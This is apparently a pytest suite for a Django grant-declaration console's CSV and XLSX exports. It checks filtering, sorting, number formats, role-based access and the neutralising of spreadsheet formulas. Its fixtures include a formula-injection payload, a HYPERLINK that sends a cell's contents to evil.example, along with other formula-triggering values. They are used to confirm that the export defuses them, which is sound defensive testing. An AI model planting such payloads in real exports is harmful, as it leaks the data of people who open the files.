"""The console's exports: the queue's declarations as filtered and sorted, and the decisions, as
CSV (UTF-8 with BOM) and XLSX (numbers as numbers); every text cell a spreadsheet would run as a
formula is neutralised; only commission staff and finance officers may export."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from common.exports import neutralise
from config.demo import Cast
from declarations.enums import DeclarationState as S
from declarations.models import Declaration, Programme
from review.models import EvaluationSummary
from tests.factories import CallFactory, DeclarationFactory, OrganisationFactory
from tests.factories.states import build_to

pytestmark = pytest.mark.django_db

TODAY = timezone.localdate().isoformat()
DECLARATION_HEADER = [
    "Number",
    "Project",
    "Organisation",
    "Unified social credit code",
    "Programme",
    "Call",
    "State",
    "Total score",
    "Spread",
    "Evaluations submitted",
    "Reviewers assigned",
    "Flags",
    "Award cap (yuan)",
    "Approved amount (yuan)",
    "Submitted",
]
DECISION_HEADER = [
    "Number",
    "Organisation",
    "Unified social credit code",
    "Programme",
    "Project",
    "Outcome",
    "Approved amount (yuan)",
    "Award cap (yuan)",
    "Support scheme or reason",
    "Meeting date",
    "Meeting opinion",
    "Decided by",
    "Decided at",
]


@pytest.fixture
def cast(applicant, staff, reviewer, second_reviewer, finance, second_finance):
    return Cast(applicant, staff, [reviewer, second_reviewer], finance, approver=second_finance)


def _declaration(call, state=S.SUBMITTED, *, n=0, programme="ART6", **kwargs):
    """A declaration put straight into `state` (a fixture shortcut, for the list's sake)."""
    declaration = DeclarationFactory(call=call, programme=Programme.objects.get(code=programme), **kwargs)
    Declaration.objects.filter(pk=declaration.pk).update(
        state=state,
        number=f"ZGC-{call.year}-{programme}-{declaration.pk:05d}",
        submitted_at=timezone.now() - datetime.timedelta(days=n + 1),
        award_cap=Decimal("1600000.00"),
    )
    return Declaration.objects.get(pk=declaration.pk)


def _csv(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    content = b"".join(response.streaming_content)
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _xlsx(response):
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return workbook.worksheets[0]


# --- the declarations of the queue --------------------------------------------------------------


def test_csv_export_has_every_filtered_declaration_not_only_the_page(client, staff, open_call):
    submitted = [_declaration(open_call, n=n) for n in range(30)]
    _declaration(open_call, S.ACCEPTED)
    client.force_login(staff)
    response = client.get("/console/export/declarations.csv?state=submitted&page=2")
    assert response["Content-Disposition"] == f'attachment; filename="declarations-{TODAY}.csv"'
    rows = _csv(response)
    assert rows[0] == DECLARATION_HEADER
    assert [row[0] for row in rows[1:]] == [d.number for d in submitted]
    first = submitted[0]
    local = timezone.localtime(first.submitted_at).strftime("%Y-%m-%d %H:%M")
    assert rows[1] == [
        first.number,
        first.title,
        first.organisation.name,
        first.organisation.credit_code,
        "ART6",
        open_call.title,
        "Submitted, awaiting acceptance",
        "",
        "",
        "",
        "",
        "",
        "1600000.00",
        "",
        local,
    ]


def test_csv_export_follows_the_sort_and_keeps_chinese_text(client, staff, open_call):
    low = _declaration(open_call, S.REVIEWED, organisation=OrganisationFactory(name="中关村量子科技有限公司"))
    high = _declaration(open_call, S.REVIEWED)
    EvaluationSummary.objects.create(
        declaration=low,
        aggregation="mean",
        total=Decimal("61.50"),
        spread=Decimal("3.00"),
        evaluations=2,
        assigned=2,
        passed=True,
    )
    EvaluationSummary.objects.create(
        declaration=high,
        aggregation="mean",
        total=Decimal("88.00"),
        spread=Decimal("12.00"),
        evaluations=2,
        assigned=3,
        passed=False,
        has_outliers=True,
    )
    client.force_login(staff)
    rows = _csv(client.get("/console/export/declarations.csv?sort=-total_score"))
    assert [(row[0], row[2], row[7], row[8], row[9], row[10], row[11]) for row in rows[1:]] == [
        (high.number, high.organisation.name, "88.00", "12.00", "2", "3", "Outlying scores; Pass marks missed"),
        (low.number, "中关村量子科技有限公司", "61.50", "3.00", "2", "2", ""),
    ]


def test_xlsx_export_writes_numbers_as_numbers_and_amounts_with_separators(client, finance, open_call):
    declaration = _declaration(open_call, S.REVIEWED)
    Declaration.objects.filter(pk=declaration.pk).update(approved_amount=Decimal("1234567.89"))
    EvaluationSummary.objects.create(
        declaration=declaration,
        aggregation="median",
        total=Decimal("77.25"),
        spread=Decimal("5.50"),
        evaluations=3,
        assigned=3,
        passed=True,
    )
    client.force_login(finance)
    response = client.get("/console/export/declarations.xlsx")
    assert response["Content-Disposition"] == f'attachment; filename="declarations-{TODAY}.xlsx"'
    sheet = _xlsx(response)
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]] == DECLARATION_HEADER
    cells = dict(zip(DECLARATION_HEADER, rows[1], strict=True))
    assert cells["Number"].value == declaration.number
    assert (cells["Total score"].value, cells["Total score"].number_format) == (77.25, "0.00")
    assert cells["Evaluations submitted"].value == 3
    assert (cells["Award cap (yuan)"].value, cells["Award cap (yuan)"].number_format) == (1600000, "#,##0.00")
    assert (cells["Approved amount (yuan)"].value, cells["Approved amount (yuan)"].number_format) == (
        1234567.89,
        "#,##0.00",
    )
    submitted = timezone.localtime(declaration.submitted_at).replace(tzinfo=None, microsecond=0)
    assert cells["Submitted"].value == submitted
    assert cells["Submitted"].is_date


def test_xlsx_export_drops_characters_a_spreadsheet_cannot_hold(client, staff, open_call):
    _declaration(open_call, title="Sensors\x01 and\x0b lasers")
    client.force_login(staff)
    sheet = _xlsx(client.get("/console/export/declarations.xlsx"))
    assert sheet.cell(row=2, column=2).value == "Sensors and lasers"


FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "plus": "+1",
    "minus": "-1",
    "at": "@SUM(A1:A9)",
}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_declarations_export_neutralises_every_formula_cell(client, staff, open_call, fmt):
    for name in ("+1", "-1", "@SUM(A1:A9)"):
        _declaration(open_call, title=FORMULAS["title"], organisation=OrganisationFactory(name=name))
    client.force_login(staff)
    response = client.get(f"/console/export/declarations.{fmt}?sort=organisation")
    if fmt == "csv":
        rows = _csv(response)[1:]
    else:
        rows = [[cell.value for cell in row] for row in _xlsx(response).iter_rows(min_row=2)]
    assert [(row[1], row[2]) for row in rows] == [
        ("'" + FORMULAS["title"], "'+1"),
        ("'" + FORMULAS["title"], "'-1"),
        ("'" + FORMULAS["title"], "'@SUM(A1:A9)"),
    ]


# --- the decisions ------------------------------------------------------------------------------


@pytest.fixture
def decided(cast, open_call):
    """One approved and one not supported declaration, decided through the real services."""
    approved = build_to(
        DeclarationFactory(organisation=cast.applicant.organisation, call=open_call, created_by=cast.applicant),
        S.APPROVED,
        cast=cast,
        amount=Decimal("1200000.00"),
    )
    rejected = build_to(
        DeclarationFactory(
            organisation=cast.applicant.organisation,
            call=open_call,
            created_by=cast.applicant,
            title="=1+1",
        ),
        S.NOT_SUPPORTED,
        cast=cast,
    )
    return approved, rejected


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_decisions_export_lists_each_decision_with_its_meeting(client, staff, decided, fmt):
    approved, rejected = decided
    client.force_login(staff)
    response = client.get(f"/console/export/decisions.{fmt}")
    assert response["Content-Disposition"] == f'attachment; filename="decisions-{TODAY}.{fmt}"'
    if fmt == "csv":
        header, *rows = _csv(response)
    else:
        header, *rows = ([cell.value for cell in row] for row in _xlsx(response).iter_rows())
    assert header == DECISION_HEADER
    by_number = {row[0]: row for row in rows}
    decision = approved.decision
    decided_at = timezone.localtime(decision.decided_at).replace(tzinfo=None, microsecond=0)
    amounts = ("1200000.00", "1600000.00") if fmt == "csv" else (1200000, 1600000)
    meeting_date = decision.opinion.meeting.held_on
    assert by_number[approved.number] == [
        approved.number,
        approved.organisation.name,
        approved.organisation.credit_code,
        "ART6",
        approved.title,
        "Support approved",
        *amounts,
        decision.reason,
        meeting_date.isoformat() if fmt == "csv" else datetime.datetime.combine(meeting_date, datetime.time()),
        "按评审结果予以支持。",
        "staff-a",
        decided_at.strftime("%Y-%m-%d %H:%M") if fmt == "csv" else decided_at,
    ]
    rejected_row = by_number[rejected.number]
    assert rejected_row[4:7] == ["'=1+1", "Not supported", "" if fmt == "csv" else None]
    assert (rejected_row[8], rejected_row[10]) == ("评审得分低于合格线。", "低于合格线。")


def test_decisions_export_is_filtered_by_call_and_programme(client, finance, decided, open_call):
    other_call = CallFactory(year=open_call.year - 1)
    client.force_login(finance)
    assert len(_csv(client.get(f"/console/export/decisions.csv?call={open_call.pk}&programme=ART6"))) == 3
    assert len(_csv(client.get(f"/console/export/decisions.csv?call={other_call.pk}"))) == 1
    assert len(_csv(client.get("/console/export/decisions.csv?programme=ART9"))) == 1


# --- who may export, and refused input ----------------------------------------------------------

EXPORTS = [
    "/console/export/declarations.csv",
    "/console/export/declarations.xlsx",
    "/console/export/decisions.csv",
    "/console/export/decisions.xlsx",
]


@pytest.mark.parametrize("role", ["reviewer", "applicant", "administrator"])
def test_exports_are_refused_to_reviewers_applicants_and_the_administrator(client, request, role, open_call):
    _declaration(open_call)
    client.force_login(request.getfixturevalue(role))
    assert [client.get(url).status_code for url in EXPORTS] == [403, 403, 403, 403]


def test_exports_send_anonymous_users_to_login(client):
    for url in EXPORTS:
        assert client.get(url)["Location"].startswith("/accounts/login/")


def test_export_of_an_unknown_format_is_not_found(client, staff):
    client.force_login(staff)
    assert client.get("/console/export/declarations.pdf").status_code == 404
    assert client.get("/console/export/decisions.ods").status_code == 404


@pytest.mark.parametrize("url", EXPORTS)
def test_export_with_a_refused_filter_shows_the_error_instead(client, staff, url):
    client.force_login(staff)
    response = client.get(f"{url}?call=abc&programme=a%00b")
    assert response.status_code == 400
    assert response.context["filter_form"].errors["call"] == [
        "Select a valid choice. That choice is not one of the available choices."
    ]
    assert "Please correct the filters before exporting." in response.content.decode()


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Plain", "Plain"),
        (" =1", " =1"),
        ("", ""),
        (Decimal("-1.00"), Decimal("-1.00")),
        (-1, -1),
        (None, None),
    ],
)
def test_neutralise_prefixes_only_text_a_spreadsheet_would_run(value, expected):
    assert neutralise(value) == expected
